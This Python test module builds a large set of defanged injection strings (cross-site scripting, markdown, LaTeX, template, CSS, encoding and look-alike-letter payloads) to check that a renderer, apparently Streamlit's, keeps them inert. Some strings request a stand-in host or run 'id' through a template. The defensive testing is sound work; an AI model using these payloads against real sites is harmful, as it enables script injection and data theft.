"""Strings that would do something if a page took them for more than text; all of them harmless.

What they would run is `ranHere(1)`, which tests define; where they would ask is ELSEWHERE, a name
that resolves nowhere.
"""

# ruff: noqa: RUF001 (letters that look like others are what some of the strings are about)

from __future__ import annotations

from itertools import product

ELSEWHERE = "nowhere.invalid"
RUN = "ranHere(1)"
LONGEST = 120
"""The most that a name may have."""

_EVENTS = (
    "onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "iframe src=about:blank", "object data=x", "a tabindex=0", "button autofocus", "math",
)  # fmt: skip

_URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://x/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW5IZXJlKDEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"http://{ELSEWHERE}/x.png",
    f"//{ELSEWHERE}/x.png",
    f"https:{ELSEWHERE}/x",
)
_ROUND_URLS = (
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[x]: {}",
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
)

_ENDS = (
    '">',
    "'>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    '\\">',
    "`)]",
)
_BEGINS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"![x](http://{ELSEWHERE}/y)",
)

_OTHERS = (
    # Script tags as browsers forgive them.
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<script src=data:,{RUN}></script>",
    f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=http://{ELSEWHERE}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=http://{ELSEWHERE}/>",
    f"<link rel=stylesheet href=http://{ELSEWHERE}/x.css>",
    f"<link rel=dns-prefetch href=//{ELSEWHERE}>",
    f"<link rel=preload as=image href=http://{ELSEWHERE}/x.png>",
    f"<img srcset='http://{ELSEWHERE}/x.png 2x'>",
    f"<picture><source srcset=http://{ELSEWHERE}/x.png><img></picture>",
    f"<video poster=http://{ELSEWHERE}/x.png></video>",
    f"<audio src=http://{ELSEWHERE}/x.mp3 autoplay></audio>",
    f"<input type=image src=http://{ELSEWHERE}/x.png>",
    f"<table background=http://{ELSEWHERE}/x.png>",
    f"<svg><image href=http://{ELSEWHERE}/x.png /></svg>",
    f"<svg><use href='http://{ELSEWHERE}/x.svg#x' /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN} /></svg>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<a ping=http://{ELSEWHERE}/ href=/log>x</a>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN} type=image>",
    # Styles.
    f"<style>@import url(http://{ELSEWHERE}/x.css);</style>",
    f"@import url(http://{ELSEWHERE}/x.css);",
    f"<style>body{{background:url(http://{ELSEWHERE}/x.png)}}</style>",
    f"<p style='background:url(http://{ELSEWHERE}/x.png)'>x</p>",
    f"<p style=\"width:expression({RUN})\">x</p>",
    f"<p style='position:fixed;inset:0;background:red'>{ELSEWHERE}</p>",
    f"<div style=behavior:url(http://{ELSEWHERE}/x.htc)>",
    f"}}body{{background:url(//{ELSEWHERE}/x)}}",
    "<style>*{display:none}</style>",
    # Formulas.
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"$\\url{{javascript:{RUN}}}$",
    f"$\\includegraphics{{http://{ELSEWHERE}/x.png}}$",
    f"$\\htmlStyle{{background:url(//{ELSEWHERE}/x)}}{{x}}$",
    f"$\\htmlData{{x={RUN}}}{{x}}$",
    "$\\def\\x{\\x\\x}\\x$",
    "$\\unicode{x3cscript}$",
    "\\(\\href{javascript:ranHere(1)}{x}\\)",
    "$x^2$ and $y^2$",
    # Streamlit's own signs.
    ":material/delete:",
    ":streamlit:",
    ":tulip: :sunglasses:",
    ":red[danger]",
    f":red[![x](http://{ELSEWHERE}/z.png)]",
    f":blue-background[[x](javascript:{RUN})]",
    f":green-badge[:material/check: <script>{RUN}</script>]",
    f":small[<img src=x onerror={RUN}>]",
    f":rainbow[$\\href{{javascript:{RUN}}}{{x}}$]",
    ":gray[x]:violet[y]",
    ":color[x]{foreground=\"red\" background=\"url(//nowhere.invalid)\"}",
    # Markdown.
    f"![x][y]\n\n[y]: http://{ELSEWHERE}/x.png",
    f"[![x](http://{ELSEWHERE}/x.png)](javascript:{RUN})",
    f"![x](<http://{ELSEWHERE}/x.png> \"t\")",
    f"http://{ELSEWHERE}/autolink",
    f"www.{ELSEWHERE}",
    f"someone@{ELSEWHERE}",
    f"<mailto:someone@{ELSEWHERE}>",
    f"**bold** _it_ ~~gone~~ `{RUN}`",
    f"```\n{RUN}\n```",
    f"    {RUN}",
    f"# {RUN}",
    f"> {RUN}",
    f"1. {RUN}",
    f"- [x] {RUN}",
    f"| {RUN} | b |\n|---|---|\n| c | d |",
    f"[^1]\n\n[^1]: {RUN}",
    f"---\ntitle: {RUN}\n---",
    f"\\<script>{RUN}\\</script>",
    f"\\![x](http://{ELSEWHERE}/x.png)",
    f"\\\\![x](http://{ELSEWHERE}/x.png)",
    # Templates.
    "{{7*7}}",
    "{% import os %}{{ os.popen('id') }}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"#{{{RUN}}}",
    f"<%= {RUN} %>",
    f"[[{RUN}]]",
    "{0.__class__.__mro__}",
    "{name.__init__.__globals__}",
    "%(name)s %s %n",
    "{{ config }} {{ request }} {{ self }}",
    f"`{RUN}`",
    # Entities, encodings, letters that look alike, letters that nobody sees.
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"﹤img src=x onerror={RUN}﹥",
    f"<ſcript>{RUN}</ſcript>",
    f"<İmg src=x onerror={RUN}>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"\u2066<img src=x onerror={RUN}>\u2069",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"\ufeff<script>{RUN}</script>",
    f"<script>\u2028{RUN}</script>",
    f"<img\u00a0src=x\u00a0onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x:x onerror\n=\n{RUN}>",
    f"<a href='&#1;javascript:{RUN}'>x</a>",
    # Where text stands within code or a data format.
    f"';{RUN};//",
    f"\";{RUN};//",
    f"\\';{RUN};//",
    f"</script><script>{RUN}</script>",
    f"*/{RUN}/*",
    f"\" onfocus={RUN} autofocus x=\"",
    f"' onfocus={RUN} autofocus x='",
    f"x onmouseover={RUN}",
    f"{{\"x\": \"</script><script>{RUN}</script>\"}}",
    f"'; DROP TABLE members; --<script>{RUN}</script>",
    f"=HYPERLINK(\"http://{ELSEWHERE}/\",\"x\")",
    f"\r\nLocation: http://{ELSEWHERE}/\r\n\r\n<script>{RUN}</script>",
    # Everything at once.
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//</stYle/</scRipt/--!>",
    f"\"'--></style></script><svg onload={RUN}>![x](http://{ELSEWHERE}/p)",
    f"'\">><marquee><img src=x onerror={RUN}></marquee>",
    f"<a href=\"javascript:{RUN}\" onmouseover={RUN}>:red[**x**] $x$</a>",
    f"[<img src=x onerror={RUN}>](javascript:{RUN})",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    f"<plaintext><script>{RUN}</script>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
)  # fmt: skip


def strings() -> list[str]:
    """Return every string once, the kinds mixed, so that a few of them are of several kinds."""
    kinds = (
        [f"<{tag} {event}={RUN}>" for tag, event in product(_TAGS, _EVENTS)],
        [frame.format(url) for frame, url in product(_ROUND_URLS, _URLS)],
        [end + begin for end, begin in product(_ENDS, _BEGINS)],
        list(_OTHERS),
    )
    longest = max(map(len, kinds))
    spread = sorted(
        ((place * longest / len(kind), text) for kind in kinds for place, text in enumerate(kind)),
        key=lambda placed: placed[0],
    )
    # A name keeps single blanks only: by these two of the strings would be one.
    once = {" ".join(text.split()): text for _, text in reversed(spread) if len(text) <= LONGEST}
    return list(reversed(once.values()))
